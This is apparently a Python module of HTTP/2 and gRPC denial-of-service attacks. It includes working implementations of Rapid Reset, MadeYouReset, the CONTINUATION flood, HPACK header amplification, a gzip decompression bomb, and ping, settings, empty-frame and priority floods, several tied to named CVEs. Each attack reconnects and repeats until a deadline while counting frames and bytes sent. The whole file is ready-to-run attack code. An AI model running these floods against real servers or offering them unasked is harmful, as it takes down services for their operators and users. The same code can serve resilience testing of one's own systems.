"""Attacks that flood a connection with frames. Each runs until `stop`, a moment of time.monotonic(), and connects again
whenever the server closes the connection; `tally` counts what was done."""
import gzip
import itertools
import struct
import time

from http2 import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, HEADER_TABLE_SIZE, HEALTH, INITIAL_WINDOW_SIZE,
                   PADDED, PING, PRIORITY, RST_STREAM, SERVICE, SETTINGS, WINDOW_UPDATE, Closed, frame, literal, message,
                   reference, request, settings)

MOST_STREAM = 2 ** 31 - 2 ** 12


def again(target, stop, tally, body, **options):
    """Connects and calls body(line), time after time."""
    while time.monotonic() < stop:
        line = None
        try:
            line = target.open(stop, **options)
            tally["connections"] += 1
            body(line)
        except Closed:
            tally["closed"] += 1
        finally:
            if line is not None:
                tally["bytes"] += line.sent
                line.close()


def flood(target, stop, tally, batch, count, first=b"", **options):
    """Sends `batch`, which has `count` frames, again and again on one connection."""
    def body(line):
        line.send(first)
        while line.left() > 0 and line.send(batch):
            tally["frames"] += count
    again(target, stop, tally, body, **options)


def per_stream(target, stop, tally, make, count, batch=100, **options):
    """Sends make(stream) for stream after stream."""
    def body(line):
        for start in itertools.count(1, 2 * batch):
            if line.left() <= 0 or start > MOST_STREAM:
                return
            if line.send(b"".join(make(stream) for stream in range(start, start + 2 * batch, 2))):
                tally["frames"] += count * batch
    again(target, stop, tally, body, **options)


def rapid_reset(target, stop, tally):
    """HEADERS and RST_STREAM, without end (CVE-2023-44487)."""
    head = request(SERVICE + "Watch")
    per_stream(target, stop, tally, lambda stream: frame(HEADERS, END_HEADERS, stream, head)
               + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)), 2, 500)


def rapid_reset_calls(target, stop, tally):
    """The same with complete requests, so that the server has begun the work."""
    head, body = request(SERVICE + "Watch"), message(b"\x08\x01")
    per_stream(target, stop, tally, lambda stream: frame(HEADERS, END_HEADERS, stream, head)
               + frame(DATA, END_STREAM, stream, body) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)), 3, 300)


def made_reset(target, stop, tally):
    """The server is made to reset the streams: each has a WINDOW_UPDATE of 0 (CVE-2025-8671)."""
    head = request(SERVICE + "Submit")
    per_stream(target, stop, tally, lambda stream: frame(HEADERS, END_HEADERS, stream, head)
               + frame(WINDOW_UPDATE, 0, stream, bytes(4)), 2, 300)


def block(stream, fields, end=True):
    """A header block of any size: HEADERS and CONTINUATION frames of 16 KiB."""
    parts = [fields[i:i + 16384] for i in range(0, len(fields), 16384)]
    out = [frame(HEADERS, END_STREAM, stream, parts[0])] + [frame(CONTINUATION, 0, stream, part) for part in parts[1:]]
    last = bytearray(out[-1])
    if end:
        last[4] |= END_HEADERS
    return b"".join(out[:-1]) + bytes(last)


def hpack_strings(target, stop, tally):
    """Header lists of 1 MB in strings of 8 KB."""
    fields = request(SERVICE + "Watch") + b"".join(literal(b"x%d" % i, b"a" * 8000) for i in range(125))
    per_stream(target, stop, tally, lambda stream: block(stream, fields), 63, 1)


def hpack_table(target, stop, tally):
    """A table that is asked to grow, and is filled with ever new entries."""
    first = settings([(HEADER_TABLE_SIZE, 2 ** 31 - 1)])
    fields = b"\x3f\xe1\x1f" + b"".join(literal(b"k%d" % i, b"v" * 3900, True) for i in range(4)) + request(SERVICE + "Watch")
    per_stream(target, stop, tally, lambda stream: block(stream, fields), 1, 10, first=first)


def hpack_references(target, stop, tally):
    """An entry of 3.9 KB, then header blocks of 16,000 references to it: 62 MB of headers in 16 KB."""
    first = settings() + block(1, literal(b"k", b"v" * 3900, True) + request(SERVICE + "Watch"))
    fields = request(SERVICE + "Watch") + reference(62) * 16000
    per_stream(target, stop, tally, lambda stream: block(stream + 2, fields), 1, 10, first=first)


def continuation(target, stop, tally):
    """A header block that never ends (CVE-2024-27316)."""
    part = frame(CONTINUATION, 0, 1, b"".join(literal(b"x%d" % i, b"a" * 1000) for i in range(15)))
    flood(target, stop, tally, part * 8, 8, frame(HEADERS, 0, 1, request(SERVICE + "Watch")))


def continuation_empty(target, stop, tally):
    """The same without a byte in the frames."""
    flood(target, stop, tally, frame(CONTINUATION, 0, 1) * 1000, 1000, frame(HEADERS, 0, 1, request(SERVICE + "Watch")))


def gzip_bomb(target, stop, tally):
    """A compressed message of 60 KB that unpacks to 60 MB."""
    bomb = message(gzip.compress(bytes(60_000_000), 9), compressed=1)
    head = request(SERVICE + "Greet", [(b"grpc-encoding", b"gzip")])

    def body(line):
        window = 65535
        for stream in range(1, MOST_STREAM, 2):
            while window < len(bomb) and line.left() > 0:
                window += sum(struct.unpack(">I", payload)[0] for kind, _, of, payload in line.frames()
                              if kind == WINDOW_UPDATE and of == 0)
                time.sleep(0.001)
            if line.left() <= 0:
                return
            line.send(frame(HEADERS, END_HEADERS, stream, head) + b"".join(
                frame(DATA, 0, stream, bomb[i:i + 16384]) for i in range(0, len(bomb), 16384))
                + frame(DATA, END_STREAM, stream))
            window -= len(bomb)
            tally["frames"] += 6
    again(target, stop, tally, body, reads=False)


def ping(target, stop, tally):
    """PING, whose answers are read."""
    flood(target, stop, tally, frame(PING, 0, 0, bytes(8)) * 1000, 1000)


def ping_unread(target, stop, tally):
    """PING, whose answers are never read (CVE-2019-9512)."""
    flood(target, stop, tally, frame(PING, 0, 0, bytes(8)) * 1000, 1000, reads=False)


def settings_flood(target, stop, tally):
    """SETTINGS with a value that changes."""
    batch = b"".join(settings([(INITIAL_WINDOW_SIZE, 65535 + i % 7)]) for i in range(1000))
    flood(target, stop, tally, batch, 1000)


def settings_unread(target, stop, tally):
    """SETTINGS whose answers are never read (CVE-2019-9515)."""
    flood(target, stop, tally, settings() * 1000, 1000, reads=False)


def acknowledgements(target, stop, tally):
    """SETTINGS and PING acknowledgements that nobody asked for."""
    flood(target, stop, tally, (frame(SETTINGS, ACK, 0) + frame(PING, ACK, 0, bytes(8))) * 500, 1000)


def empty_data(target, stop, tally):
    """DATA without a byte, on an open call (CVE-2019-9518)."""
    flood(target, stop, tally, frame(DATA, 0, 1) * 1000, 1000, frame(HEADERS, END_HEADERS, 1, request(SERVICE + "Submit")))


def empty_headers(target, stop, tally):
    """HEADERS without a header."""
    per_stream(target, stop, tally, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream), 1, 1000)


def empty_messages(target, stop, tally):
    """Messages without content: five bytes each."""
    flood(target, stop, tally, frame(DATA, 0, 1, message(b"") * 13) * 200, 200,
          frame(HEADERS, END_HEADERS, 1, request(SERVICE + "Submit")))


def padding(target, stop, tally):
    """DATA that is padding but for nothing."""
    flood(target, stop, tally, frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 100, 100,
          frame(HEADERS, END_HEADERS, 1, request(SERVICE + "Submit")))


def window_updates(target, stop, tally):
    """WINDOW_UPDATE of one byte."""
    flood(target, stop, tally, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000, 1000)


def priorities(target, stop, tally):
    """PRIORITY that rearranges a tree of streams (CVE-2019-9513)."""
    batch = b"".join(frame(PRIORITY, 0, 2 * i + 1, struct.pack(">IB", 2 * (i * 7 % 1000) + 1 if i * 7 % 1000 != i else 0, 255))
                     for i in range(1000))
    flood(target, stop, tally, batch, 1000)


def unknown_frames(target, stop, tally):
    """Frames of a type that does not exist, 16 KiB each."""
    flood(target, stop, tally, frame(0xFA, 0xFF, 0, bytes(16384)) * 4, 4)


def calls(target, stop, tally):
    """Complete requests, as fast as they can be written."""
    head, body = request(SERVICE + "Watch"), message(b"\x08\x01")
    per_stream(target, stop, tally, lambda stream: frame(HEADERS, END_HEADERS, stream, head)
               + frame(DATA, END_STREAM, stream, body), 2, 100)


def unknown_calls(target, stop, tally):
    """Requests for methods that do not exist."""
    head = request(HEALTH + "Nothing" + "x" * 1000)
    per_stream(target, stop, tally, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, head), 1, 100)
